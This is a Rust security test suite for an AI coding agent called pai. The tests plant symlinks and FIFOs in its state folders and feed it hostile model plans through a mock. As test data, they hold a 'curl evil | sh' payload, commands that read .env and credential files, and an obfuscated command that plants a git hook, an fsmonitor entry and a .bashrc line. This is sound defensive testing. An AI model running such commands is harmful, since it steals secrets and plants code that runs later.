//! Attacks on pai's own state in a hostile repository: links and special files planted under
//! `.pai_history`. Each runs the real binary against the mock and
//! checks that nothing outside the project changed or was copied in, and that pai neither
//! followed the link nor hung.

use crate::support;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use pai::llm::ProviderKind;
use serde_json::json;
use support::mock_llm::{MockLlm, Reply, Script};
use support::project::{Project, Run, git};

const KIND: ProviderKind = ProviderKind::Gemini;

/// A directory outside the project with a file an attacker wants to overwrite or steal.
struct Outside {
    dir: PathBuf,
}

impl Outside {
    fn new(p: &Project) -> Outside {
        let dir = p.home.join("victim");
        fs::create_dir_all(&dir).unwrap();
        fs::write(dir.join("config.toml"), "provider = \"gemini\"\n").unwrap();
        fs::write(dir.join("secret.txt"), "TOP-SECRET-0451\n").unwrap();
        Outside { dir }
    }

    /// Every file outside, with its bytes.
    fn snapshot(&self) -> Vec<(String, Vec<u8>)> {
        let mut out: Vec<(String, Vec<u8>)> = fs::read_dir(&self.dir)
            .unwrap()
            .map(|e| {
                let e = e.unwrap();
                let bytes = fs::read(e.path()).unwrap_or_default();
                (e.file_name().to_string_lossy().into_owned(), bytes)
            })
            .collect();
        out.sort();
        out
    }
}

fn write_plan(path: &str, content: &str) -> Reply {
    Reply::plan(json!({
        "intent": "task", "reply": "Writing it.", "observe": false,
        "steps": [{"action": "WRITE", "path": path, "content": content}, {"action": "FINISH", "message": "done"}]
    }))
}

fn run_with_timeout(p: &Project, mock: &MockLlm, request: &str) -> (Run, Duration) {
    let started = Instant::now();
    let run = p.run(mock, KIND, request, &["--yes"]);
    (run, started.elapsed())
}

fn assert_refused_and_untouched(run: &Run, outside: &Outside, before: &[(String, Vec<u8>)]) {
    assert_ne!(run.output.status.code(), Some(0), "{}", run.text());
    assert!(run.text().contains("symbolic link"), "{}", run.text());
    assert_eq!(
        outside.snapshot(),
        before,
        "something outside the project changed"
    );
}

#[test]
fn attack_state_dir_is_a_link_to_a_config_dir() {
    let p = Project::repo(None);
    let outside = Outside::new(&p);
    let before = outside.snapshot();
    symlink(&outside.dir, p.root.join(".pai_history")).unwrap();
    let mock = MockLlm::start(Script::with_replies([write_plan("a.txt", "a\n")]));
    let (run, _) = run_with_timeout(&p, &mock, "write a.txt");
    assert_refused_and_untouched(&run, &outside, &before);
    assert_eq!(mock.calls(), 0, "refused before any model call");
}

#[test]
fn attack_lock_file_is_a_link_to_a_shell_rc() {
    let p = Project::repo(None);
    let outside = Outside::new(&p);
    fs::create_dir_all(p.root.join(".pai_history")).unwrap();
    symlink(
        outside.dir.join("config.toml"),
        p.root.join(".pai_history/session.lock"),
    )
    .unwrap();
    let before = outside.snapshot();
    let mock = MockLlm::start(Script::with_replies([write_plan("a.txt", "a\n")]));
    let (run, _) = run_with_timeout(&p, &mock, "write a.txt");
    assert_refused_and_untouched(&run, &outside, &before);
}

#[test]
fn attack_state_gitignore_is_a_link() {
    let p = Project::repo(None);
    let outside = Outside::new(&p);
    fs::create_dir_all(p.root.join(".pai_history")).unwrap();
    symlink(
        outside.dir.join("config.toml"),
        p.root.join(".pai_history/.gitignore"),
    )
    .unwrap();
    let before = outside.snapshot();
    let mock = MockLlm::start(Script::with_replies([write_plan("a.txt", "a\n")]));
    let (run, _) = run_with_timeout(&p, &mock, "write a.txt");
    assert_refused_and_untouched(&run, &outside, &before);
}

#[test]
fn attack_lock_file_is_a_fifo_and_pai_does_not_hang() {
    let p = Project::repo(None);
    fs::create_dir_all(p.root.join(".pai_history")).unwrap();
    let fifo = p.root.join(".pai_history/session.lock");
    let c = std::ffi::CString::new(fifo.to_string_lossy().as_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let mock = MockLlm::start(Script::with_replies([write_plan("a.txt", "a\n")]));
    let (run, took) = run_with_timeout(&p, &mock, "write a.txt");
    assert!(took < Duration::from_secs(10), "took {took:?}");
    assert_ne!(run.output.status.code(), Some(0), "{}", run.text());
}

#[test]
fn attack_trash_folder_is_a_link_when_a_plan_overwrites_an_ignored_file() {
    let p = Project::repo(None);
    let outside = Outside::new(&p);
    fs::write(p.root.join(".gitignore"), "*.log\n").unwrap();
    git(&p.root, &["add", ".gitignore"]);
    git(&p.root, &["commit", "-q", "-m", "ignore logs"]);
    fs::write(p.root.join("app.log"), "the user's log\n").unwrap();
    fs::create_dir_all(p.root.join(".pai_history")).unwrap();
    symlink(&outside.dir, p.root.join(".pai_history/trash")).unwrap();
    let before = outside.snapshot();
    let mock = MockLlm::start(Script::with_replies([Reply::plan(json!({
        "intent": "task", "reply": "Replacing the log.", "observe": false,
        "steps": [{"action": "RM", "path": "app.log"}, {"action": "FINISH", "message": "done"}]
    }))]));
    let (run, _) = run_with_timeout(&p, &mock, "remove app.log");
    assert_eq!(outside.snapshot(), before, "{}", run.text());
    // The user's only copy of the ignored file is never lost: either it stays, or pai stopped.
    assert!(
        p.root.join("app.log").exists() || run.output.status.code() != Some(0),
        "{}",
        run.text()
    );
}

#[test]
fn attack_undo_with_a_trash_folder_swapped_for_a_link_copies_nothing_in() {
    let p = Project::repo(None);
    let outside = Outside::new(&p);
    fs::write(p.root.join(".gitignore"), "*.log\n").unwrap();
    git(&p.root, &["add", ".gitignore"]);
    git(&p.root, &["commit", "-q", "-m", "ignore logs"]);
    fs::write(p.root.join("app.log"), "the user's log\n").unwrap();
    let mock = MockLlm::start(Script::with_replies([Reply::plan(json!({
        "intent": "task", "reply": "Removing the log.", "observe": false,
        "steps": [{"action": "RM", "path": "app.log"}, {"action": "FINISH", "message": "done"}]
    }))]));
    let (run, _) = run_with_timeout(&p, &mock, "remove app.log");
    assert_eq!(run.output.status.code(), Some(0), "{}", run.text());
    // The attacker swaps the plan's trash folder for a link to their files.
    let trash = p.root.join(".pai_history/trash");
    let session = fs::read_dir(&trash)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let plan_dir = session.join("1");
    fs::remove_dir_all(&plan_dir).unwrap();
    let stolen = p.home.join("stolen");
    fs::create_dir_all(&stolen).unwrap();
    fs::write(stolen.join("app.log"), "TOP-SECRET-0451\n").unwrap();
    symlink(&stolen, &plan_dir).unwrap();
    let before = outside.snapshot();
    let undo = p.pai().args(["undo"]).output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&undo.stdout),
        String::from_utf8_lossy(&undo.stderr)
    );
    assert_eq!(outside.snapshot(), before);
    let restored = fs::read_to_string(p.root.join("app.log")).unwrap_or_default();
    assert!(
        !restored.contains("TOP-SECRET"),
        "undo copied an outside file in: {text}"
    );
}

/// A trash copy changed after pai saved it (by a RUN, or anyone) is never what undo brings
/// back: the plan commit records the copy in the object store, and undo restores from there.
#[test]
fn attack_undo_with_a_tampered_trash_copy_restores_what_pai_saved() {
    let p = Project::repo(None);
    fs::write(p.root.join(".gitignore"), "*.log\n").unwrap();
    git(&p.root, &["add", ".gitignore"]);
    git(&p.root, &["commit", "-q", "-m", "ignore logs"]);
    fs::write(p.root.join("app.log"), "the user's log\n").unwrap();
    fs::write(p.root.join("notes.txt"), "notes\n").unwrap();
    let mock = MockLlm::start(Script::with_replies([Reply::plan(json!({
        "intent": "task", "reply": "Tidying.", "observe": false,
        "steps": [{"action": "RM", "path": "app.log"},
                  {"action": "MODIFY", "path": "notes.txt", "edits": [{"search": "notes", "replace": "more notes"}]},
                  {"action": "FINISH", "message": "done"}]
    }))]));
    let (run, _) = run_with_timeout(&p, &mock, "tidy up");
    assert_eq!(run.output.status.code(), Some(0), "{}", run.text());
    let log = git(&p.root, &["log", "-1", "--format=%B"]);
    assert!(log.contains("Pai-Trash: "), "{log}");
    let trash = p.root.join(".pai_history/trash");
    let session = fs::read_dir(&trash)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    fs::write(session.join("1/app.log"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let undo = p.pai().args(["undo"]).output().unwrap();
    assert!(
        undo.status.success(),
        "{}",
        String::from_utf8_lossy(&undo.stderr)
    );
    assert_eq!(
        fs::read_to_string(p.root.join("app.log")).unwrap(),
        "the user's log\n"
    );
    assert_eq!(
        fs::read_to_string(p.root.join("notes.txt")).unwrap(),
        "notes\n"
    );
    git(&p.root, &["fsck", "--no-progress"]);
}

/// The same refusals hold without git (the private history repository lives in
/// `.pai_history/git`).
#[test]
fn attack_state_dir_link_outside_a_repository() {
    let p = Project::plain();
    let outside = Outside::new(&p);
    let before = outside.snapshot();
    symlink(&outside.dir, p.root.join(".pai_history")).unwrap();
    let mock = MockLlm::start(Script::with_replies([write_plan("a.txt", "a\n")]));
    let (run, _) = run_with_timeout(&p, &mock, "write a.txt");
    assert_refused_and_untouched(&run, &outside, &before);
    assert!(!Path::new(&outside.dir).join("git").exists());
}

/// A RUN whose command names a secret is refused before it runs, so the secret never reaches
/// the model as command output (and the allow-list cannot be used to read it).
#[test]
fn attack_run_reads_a_secret_file_into_the_model() {
    let p = Project::repo(None);
    fs::write(p.root.join(".env"), "API_TOKEN=TOP-SECRET-0451\n").unwrap();
    fs::write(
        p.root.join("credentials.json"),
        "{\"token\": \"TOP-SECRET-0451\"}\n",
    )
    .unwrap();
    for command in [
        "cat .env",
        "cat credentials.json",
        "cp .git/config leak.txt",
    ] {
        let mock = MockLlm::start(Script::with_replies([
            Reply::plan(json!({
                "intent": "task", "reply": "Checking.", "observe": true,
                "steps": [{"action": "RUN", "command": command}]
            })),
            Reply::plan(json!({"intent": "chat", "reply": "ok", "steps": [], "observe": false})),
        ]));
        let run = p.run(&mock, KIND, "check the settings", &["--yes", "--allow-run"]);
        assert!(
            run.text().contains("RUN refused"),
            "{command}: {}",
            run.text()
        );
        let sent: String = mock.requests().iter().map(|r| r.raw_body.clone()).collect();
        assert!(
            !sent.contains("TOP-SECRET-0451"),
            "{command}: the secret reached the model"
        );
        assert!(!sent.contains("repositoryformatversion"), "{command}");
        assert!(!p.root.join("leak.txt").exists());
    }
}

/// Every key pai can see is redacted, not only the active provider's: another provider's key
/// that a command prints (from a file it was allowed to read) never reaches the model, the
/// session log or the commit.
#[test]
fn attack_a_command_prints_another_providers_key() {
    const OTHER: &str = "sk-other-provider-key-0123456789abcdef";
    let p = Project::repo(None);
    fs::write(p.root.join("notes.txt"), format!("remember: {OTHER}\n")).unwrap();
    let mock = MockLlm::start(Script::with_replies([
        Reply::plan(json!({
            "intent": "task", "reply": "Reading the notes.", "observe": true,
            "steps": [{"action": "RUN", "command": "cat notes.txt"}]
        })),
        Reply::plan(json!({"intent": "chat", "reply": "done", "steps": [], "observe": false})),
    ]));
    let out = p
        .pai()
        .env(KIND.key_env_var(), support::project::TEST_KEY)
        .env("OPENAI_API_KEY", OTHER)
        .args(["run", "read my notes", "--json", "--yes", "--allow-run"])
        .args([
            "--provider",
            KIND.name(),
            "--base-url",
            &mock.base_url(KIND),
        ])
        .output()
        .unwrap();
    let shown = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(mock.calls(), 2, "{shown}");
    let sent: String = mock.requests().iter().map(|r| r.raw_body.clone()).collect();
    assert!(
        sent.contains("[REDACTED]"),
        "the output was sent, redacted: {sent}"
    );
    assert!(
        !sent.contains(OTHER),
        "another provider's key reached the model"
    );
    assert!(!shown.contains(OTHER));
    assert!(
        !p.all_records().contains(OTHER),
        "the key is in the session log or history"
    );
}

/// The allow-list means what it says: `run.allow = ["python3 -m py_compile"]` must not run a
/// `py_compile.py` the model just wrote (Python imports it from the project first) without
/// asking, even with `--yes`. Without a write before it, the allow-listed command still runs
/// unasked (where commands can be confined).
#[test]
fn attack_allow_listed_command_shadowed_by_a_module_the_model_wrote() {
    let p = Project::repo(None);
    let config = p.home.join(".config/pai-code");
    fs::create_dir_all(&config).unwrap();
    fs::write(
        config.join("config.toml"),
        "[run]\nallow = [\"python3 -m py_compile\"]\n",
    )
    .unwrap();
    fs::write(p.root.join("app.py"), "print('app')\n").unwrap();
    let evil = "import pathlib\npathlib.Path('PWNED').write_text('model code ran')\n";
    let mock = MockLlm::start(Script::with_replies([Reply::plan(json!({
        "intent": "task", "reply": "Checking the syntax.", "observe": false,
        "steps": [
            {"action": "WRITE", "path": "py_compile.py", "content": evil},
            {"action": "RUN", "command": "python3 -m py_compile app.py"},
            {"action": "FINISH", "message": "done"}
        ]
    }))]));
    let run = p.run(&mock, KIND, "check app.py compiles", &["--yes"]);
    assert!(
        !p.root.join("PWNED").exists(),
        "model-written code ran: {}",
        run.text()
    );
    // Said before anything ran: the RUN needs an approval nobody could give here.
    assert!(run.text().contains("needs approval"), "{}", run.text());
    assert_eq!(run.status(), "not_approved", "{}", run.text());

    let confined = !matches!(
        pai::exec::sandbox_support(),
        pai::exec::SandboxSupport::Unavailable(_)
    );
    if confined {
        let p2 = Project::repo(None);
        fs::create_dir_all(p2.home.join(".config/pai-code")).unwrap();
        fs::copy(
            config.join("config.toml"),
            p2.home.join(".config/pai-code/config.toml"),
        )
        .unwrap();
        fs::write(p2.root.join("app.py"), "print('app')\n").unwrap();
        let mock = MockLlm::start(Script::with_replies([Reply::plan(json!({
            "intent": "task", "reply": "Checking.", "observe": false,
            "steps": [{"action": "RUN", "command": "python3 -m py_compile app.py"}, {"action": "FINISH", "message": "ok"}]
        }))]));
        let run = p2.run(&mock, KIND, "check app.py compiles", &["--yes"]);
        assert_eq!(run.status(), "success", "{}", run.text());
    }
}

/// A RUN may write inside the project, but not what runs later: a git hook, `core.fsmonitor`
/// in `.git/config`, pai's state, or (project at `$HOME`) a shell startup file. pai puts them
/// back, fails the step, and says which files it restored.
#[test]
fn attack_run_plants_a_git_hook_and_rewrites_git_config_and_bashrc() {
    let p = Project::repo(None);
    fs::write(p.root.join(".bashrc"), "alias ll='ls -l'\n").unwrap();
    let config_before = fs::read(p.root.join(".git/config")).unwrap();
    // Spelled so that the screen of command words does not see `.git`: the restore must hold
    // on its own.
    let command = "g=.gi; g=${g}t; printf '#!/bin/sh\\ntouch PWNED\\n' > $g/hooks/pre-commit; \
                   chmod +x $g/hooks/pre-commit; \
                   printf '[core]\\n\\tfsmonitor = touch PWNED\\n' >> $g/config; \
                   echo 'touch PWNED' >> .bashrc";
    let mock = MockLlm::start(Script::with_replies([Reply::plan(json!({
        "intent": "task", "reply": "Setting up.", "observe": false,
        "steps": [{"action": "RUN", "command": command}, {"action": "FINISH", "message": "done"}]
    }))]));
    let run = p.run(&mock, KIND, "set up the project", &["--yes", "--allow-run"]);
    assert!(
        !p.root.join(".git/hooks/pre-commit").exists(),
        "{}",
        run.text()
    );
    assert_eq!(fs::read(p.root.join(".git/config")).unwrap(), config_before);
    assert_eq!(
        fs::read_to_string(p.root.join(".bashrc")).unwrap(),
        "alias ll='ls -l'\n"
    );
    // Where the kernel allows a mount namespace the writes are refused outright (read-only
    // binds); elsewhere they happen and are put back. Either way the step fails and says so.
    let text = run.text();
    assert!(
        text.contains("Read-only file system") || text.contains("put them back"),
        "{text}"
    );
    assert_ne!(run.status(), "success");
    // git still works and nothing ran.
    git(&p.root, &["status", "--porcelain"]);
    assert!(!p.root.join("PWNED").exists());
}

// ---- property: links and FIFOs anywhere pai keeps state ------------------------------------

mod layouts {
    use super::*;
    use proptest::prelude::*;

    /// What stands at one place pai keeps state.
    #[derive(Debug, Clone, Copy)]
    pub enum Plant {
        Absent,
        Regular,
        Directory,
        LinkToOutsideFile,
        LinkToOutsideDir,
        Fifo,
    }

    /// Places under `.pai_history` and `.git` that pai reads or writes.
    const PLACES: &[&str] = &[
        ".pai_history/session.lock",
        ".pai_history/.gitignore",
        ".pai_history/trash",
        ".pai_history/input_history",
        ".git/info/exclude",
        ".git/hooks/pre-commit",
        ".git/description",
    ];

    fn plant() -> impl Strategy<Value = Plant> {
        prop::sample::select(vec![
            Plant::Absent,
            Plant::Regular,
            Plant::Directory,
            Plant::LinkToOutsideFile,
            Plant::LinkToOutsideDir,
            Plant::Fifo,
        ])
    }

    fn apply(root: &Path, outside: &Path, place: &str, what: Plant) {
        let path = root.join(place);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        let _ = fs::remove_file(&path);
        let _ = fs::remove_dir_all(&path);
        match what {
            Plant::Absent => {}
            Plant::Regular => fs::write(&path, "planted\n").unwrap(),
            Plant::Directory => fs::create_dir_all(&path).unwrap(),
            Plant::LinkToOutsideFile => symlink(outside.join("config.toml"), &path).unwrap(),
            Plant::LinkToOutsideDir => symlink(outside, &path).unwrap(),
            Plant::Fifo => {
                let c = std::ffi::CString::new(path.to_string_lossy().as_bytes()).unwrap();
                // SAFETY: a valid NUL-terminated path.
                assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 40, ..ProptestConfig::default() })]

        /// Whatever stands at those places, a plan run ends in time, changes nothing outside
        /// the project, and either succeeds or says what is wrong.
        #[test]
        fn planted_links_and_fifos_never_lead_outside_or_hang(
            plants in prop::collection::vec(plant(), PLACES.len()),
            state_dir_is_link in prop::bool::weighted(0.15),
        ) {
            let p = Project::repo(None);
            let outside = Outside::new(&p);
            for (place, what) in PLACES.iter().zip(&plants) {
                apply(&p.root, &outside.dir, place, *what);
            }
            if state_dir_is_link {
                let _ = fs::remove_dir_all(p.root.join(".pai_history"));
                symlink(&outside.dir, p.root.join(".pai_history")).unwrap();
            }
            let before = outside.snapshot();
            let mock = MockLlm::start(Script::with_replies([write_plan("new.txt", "new\n")]));
            let started = Instant::now();
            let mut child = p
                .pai()
                .env(KIND.key_env_var(), support::project::TEST_KEY)
                .args(["run", "write new.txt", "--json", "--yes"])
                .args(["--provider", KIND.name(), "--base-url", &mock.base_url(KIND)])
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            while child.try_wait().unwrap().is_none() {
                if started.elapsed() > Duration::from_secs(15) {
                    let _ = child.kill();
                    let _ = child.wait();
                    prop_assert!(false, "pai hung with {:?}", plants);
                }
                std::thread::sleep(Duration::from_millis(10));
            }
            let output = child.wait_with_output().unwrap();
            let run = Run { output, events: Vec::new() };
            prop_assert_eq!(outside.snapshot(), before, "{}", run.text());
            let code = run.output.status.code();
            prop_assert!(matches!(code, Some(0..=2)), "crashed: {:?} {}", code, run.text());
            if code != Some(0) {
                prop_assert!(!run.text().trim().is_empty(), "a failure without a word");
            }
        }
    }
}

/// A FIFO at `.git/info/exclude` (found by the layout property): git would block opening it,
/// so pai refuses to write history in that repository, says why, and does not hang.
#[test]
fn attack_fifo_at_git_info_exclude_does_not_hang_a_plan() {
    let p = Project::repo(None);
    let exclude = p.root.join(".git/info/exclude");
    fs::create_dir_all(exclude.parent().unwrap()).unwrap();
    let _ = fs::remove_file(&exclude);
    let c = std::ffi::CString::new(exclude.to_string_lossy().as_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let mock = MockLlm::start(Script::with_replies([write_plan("a.txt", "a\n")]));
    let (run, took) = run_with_timeout(&p, &mock, "write a.txt");
    assert!(took < Duration::from_secs(10), "took {took:?}");
    assert!(run.text().contains("FIFO"), "{}", run.text());
}
